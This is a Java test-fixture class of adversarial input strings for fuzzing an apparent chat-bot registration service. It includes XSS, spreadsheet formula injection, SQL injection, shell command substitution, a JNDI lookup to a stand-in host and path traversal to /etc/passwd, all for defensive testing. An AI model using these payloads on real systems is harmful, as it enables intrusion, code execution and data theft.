package samvaad.testing;

import java.util.List;
import java.util.Random;

/** What somebody types, names themselves or puts into a file to do harm. */
public final class Hostile {

    private static final List<String> STRINGS = List.of(
            "<b>bold</b>",
            "</b></i><a href=\"https://evil.example\">x</a>",
            "<script>alert(1)</script>",
            "<b",
            "&lt;&#60;&amp;&nbsp;&#x110000;",
            "{0}",
            "{name} {code} {count, plural, one {x}}",
            "'{'}'",
            "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "@import",
            "-1+1",
            "\t=1",
            "\u202e\u2066evil\u2069\u202c",
            "\u200b\u200c\u200d\u2060\ufeff",
            "\u0000\u0001\u001f\u007f\u0085",
            "\ud800",
            "\udc00\ud800",
            "👨‍👩‍👧‍👦".repeat(60),
            "👨‍👩‍👧‍👦".repeat(4096),
            "Z̸̡̢̛͖͎̺̭̪̪̈́̐̽a̵̢̛͖̺l̷̢̧̛g̷̨̛o̵̡".repeat(20),
            "a" + "\u0301".repeat(3000),
            "क्ष्म्य्र्".repeat(300),
            "ﷺ".repeat(400),
            "\n".repeat(3000),
            " ",
            "",
            "/",
            "//",
            "/start",
            "/start c-" + "0".repeat(26),
            "/start s-AAAAAAAAAAAAAAAAAAAAAAAAAA",
            "/start quick_" + "x".repeat(60),
            "/start ../../etc/passwd",
            "/START@other_bot x",
            "/checkin 000-000",
            "/staff",
            "/broadcast",
            "/attendees",
            "/export",
            "/forget",
            "/cancel",
            "'; DROP TABLE registration; --",
            "%s%n%x$(id)`id`",
            "${jndi:ldap://evil.example/a}",
            "../../../data/samvaad.db",
            "9223372036854775807",
            "-9223372036854775808",
            "1e309",
            "٠١٢٣٤٥٦٧٨٩",
            "०१२३४५६७८९",
            "+91 98765 43210",
            "98765४3210",
            "a@b.c, d@e.f",
            "null",
            "undefined",
            "true",
            "[]",
            "{}",
            "İıſK");

    private Hostile() {}

    /** One of these, sometimes two together, cut somewhere or with something in the middle. */
    public static String string(Random random) {
        String one = STRINGS.get(random.nextInt(STRINGS.size()));
        return switch (random.nextInt(6)) {
            case 0 -> one + STRINGS.get(random.nextInt(STRINGS.size()));
            case 1 -> one.substring(0, random.nextInt(one.length() + 1));
            case 2 -> insert(one, STRINGS.get(random.nextInt(STRINGS.size())), random);
            case 3 -> noise(random);
            default -> one;
        };
    }

    /** The same, at most so long. */
    public static String string(Random random, int most) {
        String string = string(random);
        return string.substring(0, Math.min(most, string.length()));
    }

    private static String insert(String into, String what, Random random) {
        int at = random.nextInt(into.length() + 1);
        return into.substring(0, at) + what + into.substring(at);
    }

    private static String noise(Random random) {
        StringBuilder noise = new StringBuilder();
        for (int i = random.nextInt(30); i >= 0; i--) {
            noise.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x10000) : random.nextInt(0x250)));
        }
        return noise.toString();
    }
}
